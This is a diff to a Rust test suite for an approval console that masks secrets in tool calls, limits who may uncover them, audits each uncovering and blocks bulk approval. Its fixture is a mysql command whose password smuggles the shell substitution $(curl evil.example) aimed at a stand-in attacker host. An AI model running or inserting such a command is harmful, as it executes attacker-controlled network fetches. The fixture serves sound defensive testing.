@@ -433,7 +433,7 @@ async fn the_document_describes_every_route_and_the_request_as_it_is() {
     let document = get("/openapi.json").of(&console).await.ok();
     assert!(document["openapi"].as_str().unwrap().starts_with("3.1"));
     let paths = document["paths"].as_object().unwrap();
-    assert_eq!(paths.len(), 19, "{:?}", paths.keys());
+    assert_eq!(paths.len(), 20, "{:?}", paths.keys());
     assert_eq!(document["components"]["securitySchemes"]["token"]["scheme"], "bearer");
 
     let request = contract(&gate).await;
@@ -463,4 +463,65 @@ async fn the_document_describes_every_route_and_the_request_as_it_is() {
     for key in call.as_object().unwrap().keys() {
         assert!(of_call.contains(key), "{key} is not described: {of_call:?}");
     }
+}
+
+/// A command whose password holds what a shell runs.
+const COMMAND: &str = "mysql --password=\"aB3dE6gH$(curl evil.example)\" -h db";
+
+async fn masked(gate: &Gate) -> hitl::ApprovalRequest {
+    submit(gate, send_note("bob".to_owned(), COMMAND.to_owned())).await
+}
+
+#[tokio::test]
+async fn invariant_9b_a_reviewer_uncovers_what_is_masked_and_the_audit_says_so() {
+    let audit = hitl::MemoryAudit::new();
+    let gate = tools::register(Gate::builder()).audit(audit.clone()).build().await.unwrap();
+    let console = router(gate.clone(), Tasks::none(), tokens());
+    let request = masked(&gate).await;
+    let path = format!("/api/calls/{}", request.id);
+    let card = get(&path).by(ANN).of(&console).await.ok();
+    assert_eq!((&card["toUncover"], &card["rendered"]["toUncover"]), (&json!(2), &json!(2)));
+    assert_eq!(card["request"]["masks"][0]["reason"], "name");
+    let list = get("/api/calls").by(ANN).of(&console).await;
+    for text in [card.to_string(), list.text] {
+        assert!(!text.contains("aB3dE6gH") && !text.contains("curl"), "{text}");
+    }
+    // Only who may decide what was shown.
+    let uncover = |body: &Value| post(format!("{path}/uncover"), body);
+    assert_eq!(uncover(&shown(&request)).of(&console).await.refused().0, 403);
+    let other = uncover(&shown(&request)).by("other-secret").of(&console).await.refused();
+    assert_eq!(other, (404, "notFound".to_owned()));
+    let mut stale = shown(&request);
+    stale["revision"] = json!(2);
+    assert_eq!(uncover(&stale).by(ANN).of(&console).await.refused(), (409, "stale".to_owned()));
+    let nowhere = answer(&request, json!({ "places": ["/to"] }));
+    let refused = uncover(&nowhere).by(ANN).of(&console).await.refused();
+    assert_eq!(refused, (422, "notUncovered".to_owned()));
+    let of = |event| audit.records().into_iter().filter(move |record| record.event == event);
+    assert_eq!(of(hitl::AuditEvent::Uncovered).count(), 0);
+    for body in [shown(&request), answer(&request, json!({ "places": ["/text"] }))] {
+        let answered = uncover(&body).by(ANN).of(&console).await;
+        assert_eq!(answered.header("cache-control"), "no-store");
+        let uncovered = answered.ok();
+        assert_eq!(uncovered["places"][0]["value"], json!(COMMAND).to_string());
+        assert!(uncovered["argumentsText"].as_str().unwrap().contains("curl evil.example"));
+        assert!(uncovered["rendered"].to_string().contains("curl evil.example"));
+    }
+    let by: Vec<_> = of(hitl::AuditEvent::Uncovered).filter_map(|record| record.by).collect();
+    assert_eq!(by.iter().map(hitl::Principal::as_str).collect::<Vec<_>>(), ["ann", "ann"]);
+}
+
+#[tokio::test]
+async fn invariant_9b_masked_calls_are_not_approved_in_bulk() {
+    let (gate, console) = console().await;
+    let request = masked(&gate).await;
+    let calls = [answer(&request, json!({ "id": request.id.to_string() }))];
+    let bulk = async |answer: &str| {
+        let body = json!({ "answer": answer, "calls": calls });
+        let done = post("/api/bulk", &body).by(ANN).of(&console).await.ok();
+        done["results"][0]["result"].as_str().unwrap().to_owned()
+    };
+    assert_eq!(bulk("approve").await, "masked");
+    assert_eq!(record(&gate, request.id).await.state, CallState::Pending);
+    assert_eq!(bulk("reject").await, "ok");
 }
